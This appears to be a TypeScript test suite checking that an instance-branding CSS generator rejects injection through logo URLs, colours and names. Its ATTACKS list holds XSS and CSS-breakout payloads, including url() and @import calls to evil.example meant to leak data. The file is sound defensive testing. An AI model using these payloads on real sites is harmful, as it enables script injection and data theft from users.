import { lookOf } from './instance-look';
import { instanceStyle } from './instance-style';

/** As 0.28 may have left it in the table, or an operator in the environment. */
const styleOf = (set: Parameters<typeof lookOf>[0]): string => instanceStyle(lookOf(set, {}));

const NOTHING = styleOf({});

/** What tries to leave the value, the rule or the element. */
const ATTACKS = [
  '</style><script>alert(1)</script>',
  '"); } body { background: url(https://evil.example/?x=',
  '");}*{display:none}',
  '\\22 ); } * { display: none } /*',
  '\\"); } * { display: none }',
  "'); } * { display: none }",
  '/x"\n}*{display:none}',
  '/x\\',
  '/x\u000c"){}',
  '/x\u2028"){}',
  '/*',
  '*/ } * { display: none } /*',
  'url(https://evil.example)',
  '#fff;} * { display: none }',
  '#ffd400;--sv-color-text:red',
  '#ffd400}</style>',
  'expression(alert(1))',
  'red',
  '@import "https://evil.example"',
  '\u202e#ffd400',
  '/logo.png"); --sv-color-text: red; x: url("',
  '/logo.png") no-repeat, url("https://evil.example/',
  '/<!--<script>',
  '/]]>',
];

/** A rule, four to six declarations, each a keyword, one quoted address or colours: nothing else fits. */
const SHAPE =
  /^:root\{--sv-instance-logo:(none|url\("[\x21\x23-\x26\x2a-\x3b\x3d\x3f-\x5b\x5d-\x7e]+"\));--sv-instance-logo-dark:(none|url\("[^"\\\s<>]+"\));--sv-instance-favicon:(none|url\("[^"\\\s<>]+"\))(;--sv-color-accent:light-dark\(#[0-9a-f]{6},#[0-9a-f]{6}\);--sv-color-on-accent:light-dark\(#[0-9a-f]{6},#[0-9a-f]{6}\))?\}$/;

describe('attack: the style of the instance is left', () => {
  it.each(ATTACKS)('by the address of a picture: %j', attack => {
    const style = styleOf({ logoUrl: attack, logoDarkUrl: attack, faviconUrl: attack });

    expect(style).toMatch(SHAPE);
  });

  it.each(ATTACKS)('by a path that begins well: %j', attack => {
    expect(styleOf({ logoUrl: `/logo${attack}`, logoDarkUrl: `https://cdn.example.com/${attack}` })).toMatch(SHAPE);
  });

  it.each(ATTACKS)('by the colour: %j', attack => {
    expect(styleOf({ primaryColor: attack })).toBe(NOTHING);
    expect(styleOf({ primaryColor: `#ffd400${attack}` })).toBe(NOTHING);
  });

  it.each(ATTACKS)('by the name, which is not in it: %j', attack => {
    expect(styleOf({ instanceName: attack, emailFromName: attack })).toBe(NOTHING);
  });
});

describe('the style of the instance', () => {
  it('has what is set, and none where nothing is', () => {
    expect(NOTHING).toBe(':root{--sv-instance-logo:none;--sv-instance-logo-dark:none;--sv-instance-favicon:none}');
    expect(styleOf({ logoUrl: '/a.png', faviconUrl: 'https://cdn.example.com/i.ico', primaryColor: '#4450D3' })).toBe(
      ':root{--sv-instance-logo:url("/a.png");--sv-instance-logo-dark:url("/a.png");' +
        '--sv-instance-favicon:url("https://cdn.example.com/i.ico");' +
        '--sv-color-accent:light-dark(#4450d3,#5162e6);--sv-color-on-accent:light-dark(#ffffff,#ffffff)}',
    );
  });
});
